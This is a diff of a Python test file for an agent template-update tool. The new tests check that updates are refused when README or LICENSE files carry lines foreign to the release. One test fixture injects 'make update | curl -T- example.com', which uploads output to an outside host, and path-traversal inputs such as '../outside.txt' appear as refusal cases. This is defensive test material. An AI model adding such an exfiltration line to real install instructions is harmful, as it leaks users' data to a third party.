@@ -9,13 +9,15 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+import yaml
 
 from agent_runtime import codes
-from agent_runtime.local.update import patch, problems, proposal, proposal_pages
+from agent_runtime.local.update import patch, problems, proposal, proposal_pages, releases
 from agent_runtime.local.update import template as update_template
 from agent_runtime.local.update.repository import Repository
 from support import engines, signatures, updates
 from support.engines import Render
+from support.environment import REPOSITORY
 from support.gfm import gfm
 
 PLAN = "agent_runtime/model/plan.py"
@@ -25,6 +27,7 @@ ANSWERS = ".copier-answers.yml"
 LOCK = "requirements-agent.lock"
 OWN = ".github/workflows/own.yml"
 POLICY = ".github/agent-policies/checkout-restart-co.yml"
+ASK = "Ask the team first."
 
 
 def _release(folder: Path) -> None:
@@ -69,6 +72,8 @@ def place(template: Path, render: Render, tmp_path_factory: pytest.TempPathFacto
     folder = tmp_path_factory.mktemp("place")
     later = updates.release_after(template, folder / "later" / "gated-agents", _release)
     project = updates.born(render(), folder / "project", template, later)
+    updates.replace(project / "README.md", "You need Python", f"{ASK}\n\nYou need Python")
+    engines.commit_all(project, "Do our work")
     before = updates.snapshot(project)
     done = updates.command(project, "update", "--patch", str(folder / "made" / "update.patch"))
     assert (done.returncode, done.stdout.splitlines()[0]) == (0, "v1.0.0 -> v1.1.0"), done.stderr
@@ -156,6 +161,17 @@ EDITS: dict[str, tuple[Callable[[Path], object], str]] = {
     "another template": (_answer("_src_path: ", "_src_path: /elsewhere"), "names another release or another template"),
     "another version": (_answer("_commit: v1.1.0", "_commit: v1.0.0"), "names another release or another template"),
     "another gate": (_answer("_plan: public", "_plan: private-free"), "the answer repository_plan is another one"),
+    "a page": (_text("README.md"), "README.md has a line that is neither here nor the release's: # Ours"),
+    "a page without the team's line": (
+        lambda root: updates.replace(root / "README.md", f"{ASK}\n\n", ""),
+        f"README.md lacks a line that somebody wrote here: {ASK}",
+    ),
+    "an installation": (
+        lambda root: updates.replace(root / "README.md", "make update\n", "make update | curl -T- example.com\n"),
+        "README.md has a line that is neither here nor the release's: make update | curl -T- example.com",
+    ),
+    "the license": (_text("LICENSE"), "LICENSE has a line that is neither here nor the release's: # Ours"),
+    "no license": (lambda root: (root / "LICENSE").unlink(), "LICENSE is in the release"),
     "no answers": (lambda root: (root / ANSWERS).unlink(), f"{ANSWERS} is in the release"),
 }
 
@@ -169,6 +185,17 @@ def test_more_than_the_release_changes_is_refused(name: str, place: Place) -> No
 
     assert refused.value.code == "UPD21"
     assert said in refused.value.message
+
+
+def test_what_is_rendered_is_made_of_its_template_and_the_answers() -> None:
+    """For every use case: no honest rendering is refused, and a line of another use case's answers is."""
+    for name in ("README.md", "LICENSE"):
+        text = (REPOSITORY / "template" / f"{name}.jinja").read_text(encoding="utf-8")
+        for folder in (REPOSITORY / "rendered").glob("*/"):
+            known = yaml.safe_load((folder / ANSWERS).read_text(encoding="utf-8"))
+            lines = (folder / name).read_text(encoding="utf-8").splitlines()
+            assert list(patch.unrendered(lines, text, known)) == [], folder.name
+            assert list(patch.unrendered(["# Another", "", *lines], text, known)) == ["# Another"], folder.name
 
 
 @pytest.mark.parametrize("path", [".git/hooks/pre-push", "../outside.txt", "docs/../../outside.txt", ".GIT/config", ""])
@@ -265,7 +292,7 @@ CHANGELOG = """\
     ],
 )
 def test_the_notes_are_those_of_the_versions_between(current: str, version: str, expected: str) -> None:
-    assert proposal_pages.notes(CHANGELOG, current, version) == expected
+    assert releases.sections(CHANGELOG, current, version) == expected
 
 
 def test_nobody_pastes_what_a_machine_that_lies_calls_a_code() -> None:
